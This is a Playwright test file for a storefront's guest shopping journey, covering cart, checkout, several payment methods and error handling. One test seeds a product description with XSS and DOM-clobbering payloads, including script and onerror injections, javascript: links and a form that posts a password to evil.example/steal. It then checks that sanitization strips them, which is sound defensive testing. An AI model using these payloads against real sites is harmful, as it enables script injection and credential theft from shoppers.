"""The guest journey in Chromium, from a product to a paid order, as a shopper does it.

Each test starts as a new guest (``new_guest``) and builds the cart it needs, so the tests
pass in any order."""

from __future__ import annotations

import json
import re
import zlib
from pathlib import Path
from typing import Any, cast

import httpx
from playwright.sync_api import Page, expect

from .conftest import Shop
from .helpers import control, go, new_guest

SEED = Path(__file__).resolve().parents[2] / "scalev_sandbox" / "seed" / "demo-store.json"


def png(width: int = 8, height: int = 8) -> bytes:
    """A small valid PNG, made here so the test needs no fixture file."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    rows = b"".join(b"\x00" + b"\x30\x90\x60" * width for _ in range(height))
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\x00\x00\x00"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def add_from_product(shop: Shop, slug: str, *, size: str | None = None, bundle: bool = False) -> None:
    go(shop, f"/{'bundles' if bundle else 'products'}/{slug}", "bundle" if bundle else "product")
    page = shop.page
    if size:
        page.locator("label.option-value", has_text=re.compile(f"^{size}$")).click()
    before = page.locator("#cart-count").inner_text()
    page.locator("button[data-slot=add]").click()
    expect(page.locator("#cart-drawer")).to_be_visible()
    expect(page.locator("#cart-count")).not_to_have_text(before)
    page.locator("#cart-close").click()
    expect(page.locator("#cart-drawer")).to_be_hidden()


def fill_contact(page: Page, email: str) -> None:
    page.fill("#co-name", "Budi Santoso")
    page.fill("#co-email", email)
    page.fill("#co-phone", "0812-3456-7890")


def fill_delivery(page: Page) -> None:
    page.fill("#co-location-search", "cempaka")
    expect(page.locator("#co-location-results li").first).to_be_visible()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    expect(page.locator("[data-slot=location-chosen]")).to_contain_text("Cempaka Putih")
    page.select_option("#co-postal_code", "10510")
    page.fill("#co-address", "Jl. Cempaka Putih Tengah No. 12")
    expect(page.locator("input[name=courier]").first).to_be_checked()


def choose_payment(page: Page, label: str) -> None:
    page.locator("label.choice", has_text=label).click()
    expect(page.locator("[data-slot=amounts] .total")).to_be_visible()


def place(shop: Shop) -> str:
    shop.page.locator("button[data-slot=place]").click()
    shop.wait_ready("order")
    expect(shop.page.locator("main h1")).to_have_text(re.compile(r"^Pesanan \d{6}[A-Z]+$"))
    return shop.page.url.rsplit("/", 1)[1]


def to_checkout(shop: Shop, *products: str, bundle: str | None = None) -> Page:
    """A new guest with ``products`` (and ``bundle``) in the cart, on the checkout page."""
    new_guest(shop)
    for slug in products:
        add_from_product(shop, slug)
    if bundle:
        add_from_product(shop, bundle, bundle=True)
    go(shop, "/checkout", "checkout")
    return shop.page


def orders_for(shop: Shop, email: str) -> list[dict]:
    """The orders the store holds for ``email``, read from the sandbox's own database."""
    state = cast(Any, shop.live.sandbox).state.sandbox  # the sandbox runs in this process
    return [o for o in state.db.all("order") if o["buyer"]["email"] == email]


def rupiah(amount: str | int | float) -> str:
    return f"Rp{int(float(amount)):,}".replace(",", ".")


def api_order(shop: Shop, slug: str) -> dict:
    root = f"{shop.live.api_base}/v3/stores/{shop.live.settings.config.store_unique_id}"
    return httpx.get(
        f"{root}/public/orders/{slug}",
        headers={"X-Scalev-Storefront-Api-Key": shop.live.settings.config.storefront_api_key},
    ).json()


def test_the_gallery_and_the_chosen_colours_picture(shop: Shop):
    go(shop, "/products/kaos-katun-premium", "product")
    page = shop.page
    thumbs = page.locator("main .thumbs button")
    expect(thumbs).to_have_count(3)
    thumbs.nth(2).click()
    expect(thumbs.nth(2)).to_have_attribute("aria-current", "true")
    expect(page.locator("main [data-slot=image]")).to_have_attribute("src", re.compile("tshirt-fold"))
    page.locator("label.option-value", has_text=re.compile("^M$")).click()
    page.locator("label.option-value", has_text=re.compile("^Putih$")).click()
    expect(page.locator("main [data-slot=image]")).to_have_attribute("src", re.compile("tshirt-white"))
    expect(thumbs.nth(1)).to_have_attribute("aria-current", "true")
    expect(thumbs.nth(2)).to_have_attribute("aria-current", "false")
    expect(page.locator("main [data-slot=stock]")).to_have_text("Sisa 3")
    shop.screenshot("product-variant")


def test_a_sold_out_variant_cannot_be_added(shop: Shop):
    go(shop, "/products/kaos-katun-premium", "product")
    page = shop.page
    add = page.locator("button[data-slot=add]")
    expect(add).to_be_enabled()
    page.locator("label.option-value", has_text=re.compile("^S$")).click()
    page.locator("label.option-value", has_text=re.compile("^Putih")).click()
    expect(page.locator("main [data-slot=stock]")).to_have_text("Stok habis")
    expect(add).to_be_disabled()
    page.locator("label.option-value", has_text=re.compile("^Hitam")).click()
    expect(add).to_be_enabled()


def test_the_cart_survives_a_reload(shop: Shop):
    new_guest(shop)
    add_from_product(shop, "kaos-katun-premium", size="L")
    shop.screenshot("product-added")
    shop.page.reload()
    shop.wait_ready("product")
    expect(shop.page.locator("#cart-count")).to_have_text("1")
    shop.page.locator("#cart-button").click()
    expect(shop.page.locator("#cart-lines .cart-line")).to_have_count(1)
    expect(shop.page.locator("#cart-lines")).to_contain_text("L / Hitam")
    shop.screenshot("cart-drawer")
    shop.page.keyboard.press("Escape")
    expect(shop.page.locator("#cart-drawer")).to_be_hidden()
    assert shop.page.evaluate("document.activeElement.id") == "cart-button"


def test_cart_quantity_changes_are_reconciled_and_announced(shop: Shop):
    new_guest(shop)
    add_from_product(shop, "kaos-katun-premium", size="L")
    page = shop.page
    page.locator("#cart-button").click()
    line = page.locator("#cart-lines .cart-line").first
    line.locator("[data-slot=plus]").click()
    expect(page.locator("#cart-count")).to_have_text("2")
    expect(page.locator("#sf-status")).to_have_text(re.compile("Keranjang diperbarui: 2"))
    expect(page.locator("#cart-total")).to_have_text("Rp190.000")
    line.locator("[data-slot=minus]").click()
    expect(page.locator("#cart-count")).to_have_text("1")
    expect(page.locator("#cart-total")).to_have_text("Rp95.000")
    page.locator("#cart-close").click()


def test_a_change_the_store_refuses_is_rolled_back_in_the_drawer(shop: Shop):
    new_guest(shop)
    add_from_product(shop, "kaos-katun-premium", size="L")
    page = shop.page
    page.locator("#cart-button").click()
    shop.traffic.expect_console_error("status of 503")
    control(shop, "POST", "/faults", json={"path_contains": "/public/cart/items/", "status": 503, "times": 10})
    try:
        page.locator("#cart-lines .cart-line [data-slot=plus]").click()
        expect(page.locator("#sf-alert")).to_be_visible()
        expect(page.locator("#cart-count")).to_have_text("1")
        expect(page.locator("#cart-total")).to_have_text("Rp95.000")
        expect(page.locator("#cart-lines .cart-line input")).to_have_value("1")
    finally:
        control(shop, "DELETE", "/faults")
    page.locator("#cart-close").click()
    page.locator(".site-header a.brand").click()
    shop.wait_ready("catalog")
    expect(page.locator("#sf-alert")).to_be_hidden()  # said where it happened, not carried to the next page


def test_field_errors_appear_next_to_fields_and_nothing_typed_is_lost(shop: Shop):
    page = to_checkout(shop, "activelife-smart-bottle")
    page.fill("#co-name", "Budi Santoso")
    page.fill("#co-email", "budi@bukan")
    page.locator("button[data-slot=place]").click()
    expect(page.locator("#co-email-error")).to_have_text("Format email tidak valid.")
    expect(page.locator("#co-email")).to_have_attribute("aria-invalid", "true")
    expect(page.locator("#co-location-error")).to_be_visible()
    assert page.evaluate("document.activeElement.id") == "co-email"
    shop.screenshot("checkout-errors")
    page.reload()
    shop.wait_ready("checkout")
    expect(page.locator("#co-name")).to_have_value("Budi Santoso")
    expect(page.locator("#co-email")).to_have_value("budi@bukan")


def test_bank_transfer_purchase_with_transfer_proof_then_a_clean_form(shop: Shop, tmp_path: Path):
    page = to_checkout(shop, "kaos-katun-premium")
    fill_contact(page, "budi@example.com")
    fill_delivery(page)
    choose_payment(page, "Transfer Bank")
    page.fill("#co-discount_code", "PROMO10")
    page.locator("[data-slot=discount-apply]").click()
    expect(page.locator("[data-slot=discount-message]")).to_contain_text("PROMO10")
    expect(page.locator("[data-slot=amounts] .discount")).to_contain_text("Rp10.000")
    shop.screenshot("checkout")
    slug = place(shop)
    expect(page.locator("#cart-count")).to_have_text("0")
    expect(page.locator(".pay-bank .copy-row")).to_have_count(3)
    expect(page.locator(".pay-bank")).to_contain_text("1234567812345678")
    order = api_order(shop, slug)
    total = f"Rp{int(float(order['gross_revenue'])):,}".replace(",", ".")
    expect(page.locator("[data-slot=amounts] .total dd")).to_have_text(total)
    bad = tmp_path / "bukti.gif"
    bad.write_bytes(b"GIF89a")
    page.set_input_files("[data-slot=file]", str(bad))
    expect(page.locator(".proof [data-slot=message]")).to_have_text("Gunakan file JPG, PNG atau WebP.")
    proof = tmp_path / "bukti-transfer.png"
    proof.write_bytes(png())
    page.set_input_files("[data-slot=file]", str(proof))
    expect(page.locator("[data-slot=preview]")).to_be_visible()
    with page.expect_request(lambda r: r.method == "PUT") as upload:
        page.locator("[data-slot=submit]").click()
    # Straight to the file storage, an origin apart from the API's (as Scalev's is), which the
    # CSP names for this build.
    assert upload.value.url.startswith(shop.live.storage_url + "/") and shop.live.storage_url != shop.live.api_base
    expect(page.locator("[data-slot=received]")).to_contain_text("Bukti transfer diterima")
    shop.screenshot("order-bank-transfer")
    stored = api_order(shop, slug)
    assert stored["transferproof_url"].startswith(shop.live.storage_url + "/")
    assert stored["transferproof_url"].endswith("/bukti-transfer.png") and stored["transfer_time"]
    assert stored["payment_account_number"] == "1234567812345678"
    assert httpx.get(stored["transferproof_url"]).content == png()
    # The next purchase starts from a clean form: what was typed went with the order.
    add_from_product(shop, "e-book-membaca")
    go(shop, "/checkout", "checkout")
    for field in ("#co-name", "#co-email", "#co-phone", "#co-discount_code"):
        expect(page.locator(field)).to_have_value("")


def test_virtual_account_purchase_of_a_digital_product_at_the_stores_total(shop: Shop):
    page = to_checkout(shop, "e-book-cuan-dari-instagram")
    expect(page.locator("[data-slot=digital-only]")).to_be_visible()
    expect(page.locator("[data-slot=delivery]")).to_be_hidden()
    fill_contact(page, "va@example.com")
    with page.expect_response(lambda r: r.url.endswith("/public/checkout/summary")) as answer:
        page.locator("label.choice", has_text="Virtual Account BCA").click()
    summary = answer.value.json()
    assert float(summary["service_fee"]) > 0
    expect(page.locator("[data-slot=amounts] .amount-row", has_text="Biaya layanan")).to_contain_text(
        rupiah(summary["service_fee"])
    )
    # The total shown is the store's, fee included: not a sum made in the browser.
    expect(page.locator("[data-slot=amounts] .total dd")).to_have_text(rupiah(summary["gross_revenue"]))
    slug = place(shop)
    assert float(api_order(shop, slug)["gross_revenue"]) == float(summary["gross_revenue"])
    va = page.locator(".copy-row .mono").first
    expect(va).to_have_text(re.compile(r"^8808\d{10}$"))
    expect(page.locator("main [data-slot=expires]")).to_contain_text("Bayar sebelum")
    shop.screenshot("order-virtual-account")


def test_qris_purchase_of_a_bundle_of_courses(shop: Shop):
    page = to_checkout(shop, bundle="paket-hemat-3-kelas")
    expect(page.locator("[data-slot=delivery]")).to_be_hidden()  # three courses: nothing to ship
    fill_contact(page, "qris@example.com")
    choose_payment(page, "QRIS")
    place(shop)
    qr = page.locator(".pay-qris img.qr")
    expect(qr).to_have_attribute("src", re.compile("^data:image/svg\\+xml"))
    page.wait_for_function("() => document.querySelector('.pay-qris img.qr').naturalWidth > 100")
    shop.screenshot("order-qris")


def test_cash_on_delivery_purchase(shop: Shop):
    page = to_checkout(shop, "activelife-smart-bottle")
    fill_contact(page, "cod@example.com")
    fill_delivery(page)
    choose_payment(page, "Bayar di Tempat")
    expect(page.locator("input[name=courier]")).to_have_count(2)  # only couriers that collect cash
    place(shop)
    expect(page.locator(".pay")).to_contain_text("Siapkan uang tunai")
    expect(page.locator("main [data-slot=expires]")).to_be_hidden()
    shop.screenshot("order-cod")


def test_a_double_click_places_one_order(shop: Shop):
    page = to_checkout(shop, "e-book-membaca")
    fill_contact(page, "dobel@example.com")
    choose_payment(page, "QRIS")
    before = len([u for u in shop.traffic.requests if u.endswith("/public/checkout")])
    page.locator("button[data-slot=place]").dblclick()
    shop.wait_ready("order")
    after = len([u for u in shop.traffic.requests if u.endswith("/public/checkout")])
    assert after - before == 1 and len(orders_for(shop, "dobel@example.com")) == 1


def test_a_hostile_description_does_not_run_nor_take_the_shops_place(shop: Shop):
    seed = json.loads(SEED.read_text())
    bottle = next(p for p in seed["products"] if p["slug"] == "activelife-smart-bottle")
    bottle["rich_description"] = (
        '<p>Aman</p><img src="x" onerror="window.__pwned = 1"><script>window.__pwned = 2</script>'
        '<a href="javascript:window.__pwned=3">klik</a><iframe src="https://evil.example"></iframe>'
        # DOM clobbering: merchant elements named like the shop's own badge and cart-line template
        '<span id="cart-count" name="cart-count">0</span><template id="tpl-cart-line"><li>palsu</li></template>'
        "<style>header { display: none !important }</style>"
        '<p style="position:fixed;inset:0" class="toast">overlay</p>'
        '<form action="https://evil.example/steal"><input name="password"><button>OK</button></form>'
        '<svg><a xlink:href="javascript:window.__pwned=4"><text>svg</text></a></svg>'
        '<a href="https://merchant.example/panduan">Panduan</a> <a href="/products/kaos-katun-premium">Kaos</a>'
    )
    assert control(shop, "POST", "/reset", content=json.dumps(seed)).status_code == 204
    # While DOMPurify parses the string, Chromium refuses the inline handler under the site's
    # CSP and reports it, and the hostile image's URL answers 404: the two console lines this
    # test causes. The checks below do not lean on the CSP: what DOMPurify kept is inspected.
    shop.traffic.expect_console_error("Executing inline event handler violates")
    shop.traffic.expect_console_error("status of 404")
    page = shop.page
    try:
        page.evaluate("sessionStorage.clear(); localStorage.removeItem('scalev_guest_token')")
        page.reload()
        shop.wait_ready()
        go(shop, "/products/activelife-smart-bottle", "product")
        description = page.locator("main [data-slot=description]")
        expect(description).to_contain_text("Aman")
        html = description.inner_html()
        for hostile in ("onerror", "<script", "javascript:", "<iframe", "<style", "<form", "<input", "<button"):
            assert hostile not in html, hostile
        for attribute in ("id=", "name=", "style=", "class=", "<svg", "<template"):
            assert attribute not in html, attribute
        assert page.evaluate("document.querySelectorAll('#cart-count, #tpl-cart-line').length") == 2  # the shop's own
        expect(page.locator("header.site-header")).to_be_visible()
        outside = description.locator("a[href^='https://merchant.example']")
        assert outside.get_attribute("target") == "_blank"
        assert set((outside.get_attribute("rel") or "").split()) == {"noopener", "noreferrer", "nofollow"}
        assert description.locator("a[href='/products/kaos-katun-premium']").get_attribute("target") is None
        # The shop's badge and drawer still work with that description on the page.
        page.locator("button[data-slot=add]").click()
        expect(page.locator("#cart-drawer")).to_be_visible()
        expect(page.locator("#cart-lines > li")).to_have_count(1)
        expect(page.locator("#cart-drawer")).not_to_contain_text("palsu")
        expect(page.locator("#cart-count")).to_have_text("1")
        page.keyboard.press("Escape")
        assert page.evaluate("window.__pwned") is None
    finally:
        control(shop, "POST", "/reset")
        page.evaluate("sessionStorage.clear(); localStorage.removeItem('scalev_guest_token')")


def test_an_api_failure_offers_a_retry_and_keeps_the_page(shop: Shop):
    shop.traffic.expect_console_error("503")
    control(
        shop, "POST", "/faults", json={"path_contains": "/public/products/kelas-jadi-cerdas", "status": 503, "times": 3}
    )
    go(shop, "/products/kelas-jadi-cerdas", "product")
    alert = shop.page.locator("main .notice.error")
    expect(alert).to_contain_text("Terjadi kesalahan")
    shop.screenshot("product-error")
    control(shop, "DELETE", "/faults")
    alert.locator("button").click()
    shop.wait_ready("product")
    expect(shop.page.locator("main h1")).to_have_text("Kelas Jadi Cerdas")


def test_english_is_one_click_away(shop: Shop):
    go(shop, "/products/e-book-membaca", "product")
    page = shop.page
    page.locator("#language-switch").click()
    shop.wait_ready("product")
    expect(page.locator("button[data-slot=add]")).to_have_text("Add to cart")
    expect(page.locator("#cart-button")).to_contain_text("Cart")
    expect(page.locator("html")).to_have_attribute("lang", "en")
    page.locator("#language-switch").click()
    shop.wait_ready("product")
    expect(page.locator("button[data-slot=add]")).to_have_text("Tambah ke keranjang")


def test_a_rate_limited_add_says_so_and_keeps_the_cart(shop: Shop):
    new_guest(shop, "/products/e-book-membaca", "product")
    page = shop.page
    count = page.locator("#cart-count").inner_text()
    shop.traffic.expect_console_error("status of 429")
    control(
        shop,
        "POST",
        "/faults",
        json={"path_contains": "/public/cart/items", "method": "POST", "status": 429, "times": 1, "reset_in": 3},
    )
    page.locator("button[data-slot=add]").click()
    message = page.locator("main [data-slot=message]")
    expect(message).to_have_text("Terlalu banyak permintaan. Coba lagi dalam beberapa detik.")
    expect(page.locator("#cart-count")).to_have_text(count)
    control(shop, "DELETE", "/faults")
    # The button comes back when the store's bucket has reset; then the add goes through.
    expect(page.locator("button[data-slot=add]")).to_be_disabled()
    page.locator("button[data-slot=add]").click()
    expect(page.locator("#cart-count")).to_have_text(str(int(count) + 1))
    page.locator("#cart-close").click()


def test_a_lost_connection_keeps_the_form_and_the_order_goes_through_after(shop: Shop):
    page = to_checkout(shop, "e-book-membaca")
    fill_contact(page, "offline@example.com")
    choose_payment(page, "QRIS")
    shop.traffic.expect_console_error("ERR_INTERNET_DISCONNECTED")
    shop.traffic.expect_console_error("Failed to fetch")
    page.route(f"{shop.live.api_base}/**/public/checkout", lambda route: route.abort("internetdisconnected"))
    page.locator("button[data-slot=place]").click()
    error = page.locator("[data-slot=form-error]")
    expect(error).to_have_text("Tidak dapat terhubung ke toko. Periksa koneksi internet Anda.")
    expect(page.locator("#co-name")).to_have_value("Budi Santoso")
    expect(page.locator("#cart-count")).not_to_have_text("0")
    page.unroute(f"{shop.live.api_base}/**/public/checkout")
    page.locator("button[data-slot=place]").click()
    shop.wait_ready("order")
